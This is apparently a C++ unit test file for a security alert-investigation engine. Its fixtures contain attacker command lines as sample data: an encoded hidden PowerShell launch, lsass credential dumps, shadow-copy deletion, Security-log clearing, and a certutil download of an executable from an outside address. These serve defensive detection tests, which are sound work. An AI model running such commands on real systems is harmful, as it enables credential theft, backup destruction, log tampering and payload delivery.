// Every question that weighs: the records that should make it speak, and that it keeps still without them.

#include <gtest/gtest.h>

#include "tests/unit/investigate/memory_log.hpp"

namespace vedette::investigate {
namespace {

using test::alert;
using test::at;
using test::event;
using test::FieldMap;

const std::string kEncoded = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUA";

FieldMap on_host(FieldMap more) {
  more.insert({"host.name", "WS-14.corp.example"});
  more.insert({"user.name", "ann"});
  return more;
}
FieldMap program(const std::string& name, const std::string& command, const std::string& parent = "explorer.exe") {
  return on_host({{"event.category", "process"},
                  {"event.action", "process-created"},
                  {"process.name", name},
                  {"process.executable", "C:\\Windows\\System32\\" + name},
                  {"process.command_line", command},
                  {"process.parent.name", parent}});
}
FieldMap call(const std::string& action, FieldMap more = {}) {
  more.insert({{"event.action", action}, {"event.provider", "iam.amazonaws.com"}, {"cloud.account.id", "123456789012"}});
  more.insert({{"user.name", "bob"}, {"source.ip", "203.0.113.140"}, {"event.outcome", "success"}});
  return more;
}
FieldMap sign_in(const std::string& user, const std::string& ip, bool success) {
  return {{"event.category", "authentication"},
          {"event.action", "sign-in"},
          {"user.name", user},
          {"source.ip", ip},
          {"event.outcome", success ? "success" : "failure"}};
}

enum class About { host, cloud, sign_in, network, mail };

Alert alert_about(About what) {
  switch (what) {
    case About::host:
      return alert("Odd program", Severity::medium, at("03:00:00"),
                   {{"host.name", "ws-14"},
                    {"user.name", "ann"},
                    {"process.name", "tool.exe"},
                    {"process.command_line", "tool.exe /run"},
                    {"process.parent.name", "cmd.exe"}});
    case About::cloud: return alert("Odd call", Severity::medium, at("03:00:00"), call("GetBucketAcl"));
    case About::sign_in: return alert("Odd sign-in", Severity::medium, at("03:00:00"), sign_in("ann", "203.0.113.9", true));
    case About::network:
      return alert("Odd traffic", Severity::medium, at("03:00:00"),
                   {{"source.ip", "10.0.0.8"}, {"destination.ip", "203.0.113.7"}, {"destination.port", "443"}});
    case About::mail:
      return alert("Odd mail", Severity::medium, at("03:00:00"),
                   {{"email.from.address", "news@partner.example"},
                    {"email.to.address", "ann@corp.example"},
                    {"url.domain", "partner.example"}});
  }
  return {};
}

struct Case {
  const char* question;
  About about;
  std::vector<Event> events;
  int sign;               // of the weight
  const char* mentioned;  // in the sentence and the records
};

std::vector<Event> repeat(int count, const std::function<Event(int)>& make) {
  std::vector<Event> all;
  for (int i = 0; i < count; ++i) all.push_back(make(i));
  return all;
}
// One a day before the alert.
std::vector<Event> daily(int days, const std::string& dataset, const FieldMap& fields) {
  return repeat(days, [&](int day) { return event(dataset, at("10:00:00", day + 1), fields); });
}
std::vector<Event> operator+(std::vector<Event> a, const std::vector<Event>& b) {
  a.insert(a.end(), b.begin(), b.end());
  return a;
}

std::vector<Case> host_cases() {
  const auto host = [](FieldMap fields) {
    return std::vector<Event>{event("windows", at("02:58:00"), on_host(std::move(fields)))};
  };
  const auto ran = [](const std::string& name, const std::string& command, const std::string& parent = "cmd.exe") {
    return std::vector<Event>{event("windows", at("02:58:00"), program(name, command, parent))};
  };
  return {
      {"endpoint.credential_command", About::host, ran("procview.exe", "procview.exe -accepteula -ma lsass.exe m.dmp"), 1,
       "procview.exe"},
      {"endpoint.lsass_access", About::host,
       host({{"event.code", "10"},
             {"process.name", "dump.exe"},
             {"process.executable", "C:\\Users\\Public\\dump.exe"},
             {"process.target.name", "lsass.exe"},
             {"winlog.event_data.GrantedAccess", "0x1fffff"}}),
       1, "dump.exe"},
      {"endpoint.recovery_command", About::host, ran("vssadmin.exe", "vssadmin delete shadows /all /quiet"), 1, "vssadmin"},
      {"endpoint.blinding_command", About::host, ran("wevtutil.exe", "wevtutil.exe cl Security"), 1,
       "wevtutil.exe cl Security"},
      {"endpoint.log_cleared", About::host, host({{"event.code", "1102"}, {"event.action", "audit-log-cleared"}}), 1, "ann"},
      {"endpoint.script_command", About::host, ran("powershell.exe", kEncoded), 1, "powershell.exe -nop"},
      {"endpoint.discovery", About::host,
       ran("whoami.exe", "whoami /all") + ran("net.exe", "net group \"Domain Admins\" /domain") +
           ran("nltest.exe", "nltest /dclist:"),
       1, "3"},
      {"endpoint.lateral", About::host, ran("psexesvc.exe", "C:\\Windows\\PSEXESVC.exe"), 1, "psexesvc.exe"},
      {"endpoint.office_shell", About::host, ran("powershell.exe", "powershell -c x", "WINWORD.EXE"), 1, "WINWORD.EXE"},
      {"endpoint.service_installed", About::host,
       host({{"event.action", "service-installed"},
             {"service.name", "updsvc"},
             {"process.command_line", "C:\\Windows\\Temp\\u.exe"}}),
       1, "updsvc"},
      {"endpoint.task_created", About::host,
       host({{"event.action", "scheduled-task-created"}, {"winlog.task_name", "\\Updater"}}), 1, "\\Updater"},
      {"endpoint.autostart", About::host,
       host({{"event.category", "registry"},
             {"event.action", "registry-value-set"},
             {"process.name", "reg.exe"},
             {"registry.path", "HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Sync"},
             {"registry.data.strings", "C:\\Users\\Public\\s.exe"}}),
       1, "CurrentVersion\\Run\\Sync"},
      {"endpoint.account_change", About::host,
       host({{"event.action", "added-member-to-group"}, {"user.target.name", "eve"}}), 1, "eve"},
      {"endpoint.injection", About::host,
       host({{"event.code", "8"}, {"process.name", "x.exe"}, {"process.target.name", "notepad.exe"}}), 1, "notepad.exe"},
      {"endpoint.dropped_file", About::host,
       host({{"event.action", "file-created"},
             {"process.name", "firefox.exe"},
             {"file.path", "C:\\Users\\Public\\Downloads\\claim.docm"}}),
       1, "claim.docm"},
      {"endpoint.script_connection", About::host,
       host({{"event.category", "network"}, {"process.name", "powershell.exe"}, {"destination.ip", "203.0.113.66"}}), 1,
       "203.0.113.66"},
      {"endpoint.children", About::host, ran("whoami.exe", "whoami", "tool.exe"), 1, "whoami.exe"},
      {"endpoint.process_rarity", About::host,
       repeat(6,
              [](int i) {
                return event("windows", at("10:00:00", 3),
                             {{"event.action", "process-created"},
                              {"host.name", "ws-" + std::to_string(i)},
                              {"process.name", "cmd.exe"}});
              }),
       1, "tool.exe"},
      {"endpoint.routine_command", About::host, daily(8, "windows", program("tool.exe", "tool.exe /run", "cmd.exe")), -1,
       "8"},
      {"endpoint.user_on_host", About::host, daily(9, "windows", on_host({{"event.action", "logged-in"}})), -1, "ann"},
  };
}

std::vector<Case> cloud_cases() {
  const auto called = [](const std::string& action, FieldMap more = {}) {
    return std::vector<Event>{event("cloudtrail", at("02:58:00"), call(action, std::move(more)))};
  };
  return {
      {"cloud.routine_call", About::cloud, daily(7, "cloudtrail", call("GetBucketAcl")), -1, "7"},
      {"cloud.new_address", About::cloud,
       repeat(30,
              [](int i) {
                auto fields = call("ListBuckets");
                fields["source.ip"] = "198.51.100.4";
                return event("cloudtrail", at("09:00:00", 1 + i % 8), fields);
              }),
       1, "203.0.113.140"},
      {"cloud.blinding", About::cloud, called("StopLogging"), 1, "StopLogging"},
      {"cloud.persistence", About::cloud, called("CreateAccessKey"), 1, "CreateAccessKey"},
      {"cloud.exposure", About::cloud, called("ModifySnapshotAttribute"), 1, "ModifySnapshotAttribute"},
      {"cloud.secrets", About::cloud,
       repeat(12,
              [](int i) { return event("cloudtrail", at("02:50:00") + std::chrono::seconds(i), call("GetSecretValue")); }),
       1, "12"},
      {"cloud.denied", About::cloud,
       repeat(11,
              [](int i) {
                return event("cloudtrail", at("02:50:00") + std::chrono::seconds(i),
                             call("ListUsers", {{"error.code", "AccessDenied"}}));
              }),
       1, "11"},
      {"cloud.discovery", About::cloud, called("GetCallerIdentity") + called("ListUsers") + called("ListBuckets"), 1,
       "ListUsers"},
      {"cloud.remote_control", About::cloud, called("UpdateFunctionCode20150331v2"), 1, "UpdateFunctionCode20150331v2"},
      {"cloud.root", About::cloud, called("ListBuckets", {{"aws.cloudtrail.user_identity.type", "Root"}}), 1, "1"},
      {"cloud.no_mfa", About::cloud, called("ConsoleLogin", {{"aws.cloudtrail.additional_event_data.MFAUsed", "No"}}), 1,
       "203.0.113.140"},
  };
}

std::vector<Case> other_cases() {
  const auto known_elsewhere =
      repeat(10, [](int i) { return event("ecs", at("09:00:00", 1 + i % 6), sign_in("ann", "198.51.100.4", true)); });
  return {
      {"identity.failures_then_success", About::sign_in,
       repeat(25,
              [](int i) {
                return event("ecs", at("02:30:00") + std::chrono::seconds(i), sign_in("ann", "203.0.113.9", i == 24));
              }),
       1, "24"},
      {"identity.spray", About::sign_in,
       repeat(8,
              [](int i) {
                return event("ecs", at("02:30:00") + std::chrono::seconds(i),
                             sign_in("user" + std::to_string(i), "203.0.113.9", i == 7));
              }),
       1, "203.0.113.9"},
      {"identity.known_address", About::sign_in, daily(6, "ecs", sign_in("ann", "203.0.113.9", true)), -1, "6"},
      {"identity.known_address", About::sign_in, known_elsewhere, 1, "203.0.113.9"},
      {"identity.shared_address", About::sign_in,
       repeat(
           5,
           [](int i) { return event("ecs", at("09:00:00", 2), sign_in("user" + std::to_string(i), "203.0.113.9", true)); }),
       -1, "5"},
      {"identity.mailbox_rule",
       About::sign_in,
       {event("ecs", at("03:02:00"),
              {{"user.name", "ann"}, {"event.action", "New-InboxRule"}, {"rule.name", "hide invoices"}})},
       1,
       "hide invoices"},
      {"identity.many_hosts", About::sign_in,
       repeat(7,
              [](int i) {
                return event(
                    "windows", at("02:50:00"),
                    {{"user.name", "ann"}, {"event.action", "logged-in"}, {"host.name", "srv-" + std::to_string(i)}});
              }),
       1, "7"},
      {"identity.privilege",
       About::sign_in,
       {event("windows", at("02:50:00"),
              {{"user.name", "ann"}, {"event.action", "added-member-to-group"}, {"user.target.name", "eve"}})},
       1,
       "eve"},
      {"network.who_else", About::network,
       repeat(12,
              [](int i) {
                return event("suricata", at("01:30:00"),
                             {{"source.ip", "10.0.1." + std::to_string(i)}, {"destination.ip", "203.0.113.7"}});
              }),
       -1, "13"},
      {"network.volume",
       About::network,
       {event("suricata", at("02:59:00"),
              {{"source.ip", "10.0.0.8"}, {"destination.ip", "203.0.113.7"}, {"source.bytes", "734003200"}})},
       1,
       "734"},
      {"network.fan_out", About::network,
       repeat(20,
              [](int i) {
                return event("suricata", at("02:50:00"),
                             {{"source.ip", "10.0.0.8"}, {"destination.ip", "10.0.2." + std::to_string(i)}});
              }),
       1, "21"},
      {"network.routine_pair", About::network,
       daily(6, "suricata", {{"source.ip", "10.0.0.8"}, {"destination.ip", "203.0.113.7"}, {"destination.port", "443"}}), -1,
       "6"},
      {"network.tunnel", About::network,
       repeat(30,
              [](int i) {
                return event("suricata", at("02:50:00"),
                             {{"source.ip", "10.0.0.8"},
                              {"dns.question.name", "0123456789abcdef0123456789abcdef" + std::to_string(i) + ".d.example"}});
              }),
       1, "30"},
      {"network.other_detections", About::network,
       repeat(3,
              [](int i) {
                return event(
                    "suricata", at("02:50:00"),
                    {{"source.ip", "10.0.0.8"}, {"event.kind", "alert"}, {"rule.name", "rule " + std::to_string(i)}});
              }),
       1, "rule 1"},
      {"network.domain_visitors", About::mail,
       repeat(9,
              [](int i) {
                return event("ecs", at("02:50:00"),
                             {{"source.ip", "10.0.3." + std::to_string(i)}, {"url.domain", "partner.example"}});
              }),
       -1, "9"},
      {"network.domain_names", About::mail,
       repeat(25,
              [](int i) {
                return event(
                    "suricata", at("02:50:00"),
                    {{"dns.question.name", "0123456789abcdef0123456789abcdef" + std::to_string(i) + ".partner.example"}});
              }),
       1, "25"},
      {"mail.sender_history", About::mail,
       daily(5, "ecs", {{"email.from.address", "news@partner.example"}, {"email.to.address", "bob@corp.example"}}), -1, "5"},
      {"mail.followed",
       About::mail,
       {event("ecs", at("03:05:00"), {{"url.domain", "partner.example"}, {"event.category", "web"}, {"user.name", "ann"}})},
       1,
       "ann"},
  };
}

// A record of everything the case is about, which means nothing: so that the questions are asked at all.
std::vector<Event> background() {
  return {event("windows", at("02:40:00"), on_host({{"event.action", "service-state-changed"}})),
          event("cloudtrail", at("02:40:00"), call("DescribeRegions")),
          event("suricata", at("02:40:00"), {{"source.ip", "10.0.0.8"}, {"destination.ip", "10.0.0.1"}}),
          event("suricata", at("02:40:00"), {{"source.ip", "203.0.113.9"}}),
          event("suricata", at("02:40:00"), {{"source.ip", "10.9.9.9"}, {"destination.ip", "203.0.113.7"}})};
}

void check(const Case& one) {
  SCOPED_TRACE(one.question);
  test::MemoryLog quiet;
  quiet.events = background();
  const auto without = test::investigate_case(quiet, {alert_about(one.about)});
  if (const auto* finding = without.finding(one.question)) {
    EXPECT_LE(std::abs(finding->weight), finding->family == "rarity" ? 0.5 : 0.0) << finding->text;
  }
  test::MemoryLog log;
  log.events = background();
  log.events.insert(log.events.end(), one.events.begin(), one.events.end());
  const auto with = test::investigate_case(log, {alert_about(one.about)});
  const Finding* loudest = nullptr;
  for (const auto& finding : with.dossier.findings)
    if (finding.question == one.question && (loudest == nullptr || std::abs(finding.weight) > std::abs(loudest->weight)))
      loudest = &finding;
  ASSERT_NE(loudest, nullptr) << "not asked";
  EXPECT_GT(loudest->weight * one.sign, 0) << loudest->text;
  EXPECT_NE(loudest->text.find(one.mentioned), std::string::npos) << loudest->text;
  // What it says stands in the records it cites.
  int dropped = 0;
  decide(with.dossier, at("04:00:00"), &dropped);
  EXPECT_EQ(dropped, 0);
  EXPECT_LE(with.dossier.evidence.size(), Budget().questions + 1);
  for (const auto& evidence : with.dossier.evidence) {
    EXPECT_LE(evidence.records.size(), 20u);
    EXPECT_FALSE(evidence.answer.empty());
    EXPECT_FALSE(evidence.query.empty());
  }
}

TEST(Questions, about_machines) {
  for (const auto& one : host_cases()) check(one);
}
TEST(Questions, about_the_cloud) {
  for (const auto& one : cloud_cases()) check(one);
}
TEST(Questions, about_accounts_networks_and_mail) {
  for (const auto& one : other_cases()) check(one);
}

TEST(Questions, about_the_alert_itself) {
  struct Row {
    const char* question;
    const char* command;
    int sign;
  };
  for (const auto& row :
       {Row{"alert.encoded", kEncoded.c_str(), 1},
        Row{"alert.encoded", "powershell.exe -ExecutionPolicy Bypass -File x.ps1", 0},
        Row{"alert.fetches", "certutil -urlcache -split -f http://203.0.113.7/a.exe", 1},
        Row{"alert.fetches", "curl --version", 0},
        Row{"alert.credentials", "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 l.dmp full", 1},
        Row{"alert.credentials", "notepad.exe passwords.txt", 0},
        Row{"alert.destroys", "vssadmin.exe delete shadows /all", 1},
        Row{"alert.destroys", "vssadmin.exe list shadows", 0}}) {
    test::MemoryLog log;
    const auto outcome = test::investigate_case(
        log, {alert("Program", Severity::medium, at("03:00:00"),
                    {{"host.name", "ws-14"}, {"process.name", "x.exe"}, {"process.command_line", row.command}})});
    const auto* finding = outcome.finding(row.question);
    ASSERT_NE(finding, nullptr) << row.question;
    EXPECT_EQ(finding->weight > 0, row.sign > 0) << row.command;
  }
}

TEST(Questions, a_subject_without_records_is_said_and_not_pursued) {
  test::MemoryLog log;
  const auto outcome = test::investigate_case(log, {alert_about(About::host)});
  EXPECT_EQ(outcome.evidence("endpoint.lsass_access"), nullptr);
  EXPECT_NE(
      std::find(outcome.verdict.not_checked.begin(), outcome.verdict.not_checked.end(), "Endpoint: no log of ws-14 at all."),
      outcome.verdict.not_checked.end());
  EXPECT_NE(outcome.verdict.label, Label::benign);
}

TEST(Questions, a_source_that_fails_is_said_once) {
  test::MemoryLog log;
  log.broken = true;
  const auto outcome = test::investigate_case(log, {alert_about(About::host)});
  EXPECT_EQ(outcome.verdict.label, Label::inconclusive);
  int said = 0;
  for (const auto& line : outcome.verdict.not_checked)
    if (line.find("event log did not answer") != std::string::npos) ++said;
  EXPECT_EQ(said, 1);
}

TEST(Questions, an_address_found_in_an_answer_is_followed) {
  test::MemoryLog log;
  log.events = background();
  log.events.push_back(event(
      "windows", at("02:59:00"),
      on_host({{"event.category", "network"}, {"process.name", "powershell.exe"}, {"destination.ip", "203.0.113.66"}})));
  log.events.push_back(
      event("suricata", at("02:59:00"),
            {{"source.ip", "10.0.0.14"}, {"destination.ip", "203.0.113.66"}, {"source.bytes", "900000000"}}));
  const auto outcome = test::investigate_case(log, {alert_about(About::host)});
  const auto* volume = outcome.evidence("network.volume");
  ASSERT_NE(volume, nullptr);
  EXPECT_EQ(volume->question, "network.volume ip:203.0.113.66");
}

}  // namespace
}  // namespace vedette::investigate
